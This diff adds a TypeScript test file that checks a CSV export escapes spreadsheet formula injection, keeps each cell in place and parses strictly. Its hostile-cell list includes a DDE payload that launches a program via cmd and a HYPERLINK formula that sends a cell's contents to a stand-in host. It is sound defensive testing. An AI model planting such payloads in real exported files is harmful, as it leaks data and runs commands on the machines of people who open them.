@@ -1,0 +1,74 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { type CsvColumn, toCsv } from './csv-file.ts';
+
+type Row = { name: string; words: string };
+const columns: CsvColumn<Row>[] = [
+  { name: 'First Name', cell: ({ name }) => name },
+  { name: 'Message', cell: ({ words }) => words },
+];
+
+/** Strict: every record has as many cells, quotes stand only where RFC 4180 has them, lines end with both signs. */
+const read = (csv: string): string[][] => {
+  expect(csv.startsWith('\uFEFF')).toBe(true);
+  return parse(csv.slice(1), { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });
+};
+
+const hostile = [
+  '=1+1',
+  '=HYPERLINK("https://elsewhere.test?"&A1,"Click")',
+  '+1',
+  '-1',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C calc'!A0",
+  '"=1+1"',
+  '","=1+1","',
+  'a\r\n=1+1,b',
+  'a\n=1+1',
+  '"',
+  '""',
+  ',',
+  "'=1+1",
+  '日本語, „quoted“',
+  '\uFEFF=1+1',
+  '',
+];
+
+describe('the exported table', () => {
+  test('has a byte order mark, its columns, and quotes where they are needed', () => {
+    expect(toCsv(columns, [{ name: 'Ana "A." Lund', words: 'One,\ntwo' }])).toBe(
+      '\uFEFFFirst Name,Message\r\n"Ana ""A."" Lund","One,\ntwo"\r\n',
+    );
+  });
+
+  test('with hostile cells is read by a strict parser, and no cell is a formula', () => {
+    const rows = hostile.flatMap((one) => hostile.map((other) => ({ name: one, words: other })));
+    const [header, ...records] = read(toCsv(columns, rows));
+    expect(header).toEqual(['First Name', 'Message']);
+    expect(records).toHaveLength(rows.length);
+    for (const [index, cells] of records.entries()) {
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      expect(cells.map((cell) => cell.replace(/^'(?='*[=+\-@\t\r])/, ''))).toEqual(Object.values(rows[index]!));
+    }
+  });
+
+  test('holds whatever people type, each cell in its place', () => {
+    const text = fc.oneof(
+      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\'a é') }),
+      fc.string({ unit: 'grapheme' }),
+    );
+    fc.assert(
+      fc.property(fc.array(fc.record({ name: text, words: text }), { minLength: 1 }), (rows) => {
+        const records = read(toCsv(columns, rows)).slice(1);
+        expect(records).toHaveLength(rows.length);
+        for (const [index, cells] of records.entries()) {
+          expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+          expect(cells.map((cell) => cell.replace(/^'(?='*[=+\-@\t\r])/, ''))).toEqual(Object.values(rows[index]!));
+        }
+      }),
+    );
+  });
+});
